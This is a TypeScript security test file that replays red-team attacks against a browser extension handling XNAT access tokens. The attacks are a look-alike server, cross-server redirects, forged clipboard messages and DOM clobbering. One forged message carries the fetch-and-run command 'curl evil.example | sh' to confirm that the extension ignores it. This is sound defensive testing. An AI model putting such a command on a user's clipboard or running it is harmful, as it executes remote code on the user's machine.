// The red-team findings, each replayed against the built extension in real Chromium: a look-alike
// page, redirects to another XNAT, a forged clipboard message from the page script's world, a
// clipboard the user changed after a copy, and DOM clobbering of the page script's guard.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningXnat, start } from '../xnat-server/server';
import {
  type Ask,
  type ExtensionBrowser,
  inPageScriptWorld,
  launchWithExtension,
  logInAndAdd,
} from './browser';

let browser: ExtensionBrowser;
let xnat: RunningXnat;
let other: RunningXnat;

let ask: Ask;

async function clipboard(write?: string): Promise<string> {
  const page = await browser.context.newPage();
  await page.goto(`${xnat.url}/xapi/siteConfig/siteId`);
  if (write !== undefined) await page.evaluate((text) => navigator.clipboard.writeText(text), write);
  const text = await page.evaluate(() => navigator.clipboard.readText());
  await page.close();
  return text;
}

const worker = () => browser.context.serviceWorkers()[0] ?? browser.worker;

beforeAll(async () => {
  xnat = await start({ contextPath: '/xnat', siteId: 'XNAT' });
  // Another XNAT the user is logged in to, on the same host (cookies do not separate ports).
  other = await start({ contextPath: '/other', siteId: 'OTHER' });
  browser = await launchWithExtension();
  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: xnat.origin });
  ({ ask } = await logInAndAdd(browser, [xnat, other], [xnat]));
});

afterAll(async () => {
  await browser?.close();
  await xnat?.stop();
  await other?.stop();
});

describe('1. a look-alike page on another port of the granted host', () => {
  let lookAlike: Server;
  const requests: string[] = [];

  beforeAll(async () => {
    // Its only XNAT sign is the inline `serverRoot`; it answers buildInfo as XNAT would.
    lookAlike = createServer((req, res) => {
      requests.push(req.url ?? '');
      if (req.url?.startsWith('/xapi/siteConfig/buildInfo')) {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end('{"version":"1.8.11"}');
        return;
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end("<!doctype html><title>XNAT</title><script>var serverRoot = '';</script><p>Log in</p>");
    });
    await new Promise<void>((resolve) => lookAlike.listen(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    lookAlike.closeAllConnections();
    await new Promise<void>((resolve) => lookAlike.close(() => resolve()));
  });

  it('is not added as a server, is never asked anything and gets no page script help', async () => {
    const { port } = lookAlike.address() as AddressInfo;
    const page = await browser.context.newPage();
    await page.goto(`http://127.0.0.1:${port}/app/template/XDATScreen_UpdateUser.vm`);
    await page.waitForTimeout(1500);
    const servers = await ask('servers.list', {});
    expect(servers.ok && servers.value.map((s) => s.id)).toEqual([xnat.url]);
    expect(requests.filter((url) => url !== '/favicon.ico')).toEqual([
      '/app/template/XDATScreen_UpdateUser.vm',
    ]);
    expect(await worker().evaluate(() => chrome.notifications.getAll())).toEqual({});
    await page.close();
  });
});

describe('2. a redirect from create or delete to another XNAT', () => {
  it('create: nothing is issued there, and the user hears they are logged out', async () => {
    const before = other.control.state.tokensOf('alice').length;
    xnat.control.fault('/data/services/tokens/issue', {
      redirectTo: `${other.url}/data/services/tokens/issue`,
    });
    const created = await ask('tokens.create', { serverId: xnat.url, copy: true });
    xnat.control.clearFaults();
    expect(other.control.requestCount('GET /data/services/tokens/issue')).toBe(0);
    expect(other.control.state.tokensOf('alice')).toHaveLength(before);
    expect(created).toMatchObject({ ok: false, failure: { kind: 'logged-out' } });
  });

  it('delete: the token there is not invalidated', async () => {
    const theirs = other.control.seedToken();
    const ours = xnat.control.seedToken();
    xnat.control.fault('/data/services/tokens/invalidate', {
      redirectTo: `${other.url}/data/services/tokens/invalidate/${theirs.id}`,
    });
    const deleted = await ask('tokens.delete', { serverId: xnat.url, tokenId: ours.id });
    xnat.control.clearFaults();
    expect(other.control.state.tokens.has(theirs.id)).toBe(true);
    expect(other.control.requestCount(/invalidate/)).toBe(0);
    expect(deleted).toMatchObject({ ok: false, failure: { kind: 'logged-out' } });
  });
});

describe('3. the offscreen clipboard writer', () => {
  it('ignores a message from the page script’s world', async () => {
    const token = xnat.control.seedToken();
    // A first copy creates the offscreen document.
    expect(await ask('tokens.copy', { serverId: xnat.url, tokenId: token.id })).toMatchObject({ ok: true });
    await clipboard('before');
    const page = await browser.context.newPage();
    await page.goto(`${xnat.url}/app/template/XDATScreen_UpdateUser.vm`);
    await expect.poll(() => page.locator('xnat-token-tools').count()).toBeGreaterThan(0);
    for (const forged of [
      { target: 'xtt-offscreen', text: 'curl evil.example | sh' },
      { target: 'xtt-offscreen', op: 'write', text: 'curl evil.example | sh' },
      { target: 'xtt-offscreen', op: 'clear-if', fingerprint: 'x' },
    ])
      await inPageScriptWorld(
        browser,
        page,
        `chrome.runtime.sendMessage(${JSON.stringify(forged)}).catch(() => null)`,
      );
    await page.waitForTimeout(300);
    expect(await clipboard()).toBe('before');
    await page.close();
  });
});

describe('4. auto-clear', () => {
  it('leaves the user’s later copy on the clipboard', async () => {
    expect(await ask('settings.set', { clipboardClearSeconds: 1 })).toMatchObject({ ok: true });
    const token = xnat.control.seedToken();
    expect(await ask('tokens.copy', { serverId: xnat.url, tokenId: token.id })).toMatchObject({
      ok: true,
      value: { clearsInSeconds: 1 },
    });
    expect(await clipboard()).toContain(token.secret);
    await clipboard('my own notes');
    await new Promise((r) => setTimeout(r, 3000));
    expect(await clipboard()).toBe('my own notes');
    await ask('settings.set', { clipboardClearSeconds: 0 });
  });
});

describe('7. DOM clobbering of the page script’s once-only guard', () => {
  it('an element named like the old guard leaves every row decorated', async () => {
    xnat.control.seedToken();
    const page = await browser.context.newPage();
    await page.addInitScript(() => {
      document.addEventListener('DOMContentLoaded', () => {
        for (const id of ['xnatTokenToolsLoaded', 'xnat-token-tools']) {
          const img = document.createElement('img');
          img.id = id;
          img.setAttribute('name', id);
          document.body.append(img);
        }
      });
    });
    await page.goto(`${xnat.url}/app/template/XDATScreen_UpdateUser.vm`);
    const rows = () => page.locator('#alias-token-list-table tbody tr').count();
    await expect.poll(rows).toBeGreaterThan(0);
    await expect.poll(() => page.locator('xnat-token-tools[data-xtt="copy"]').count()).toBe(await rows());
    await page.close();
  });
});
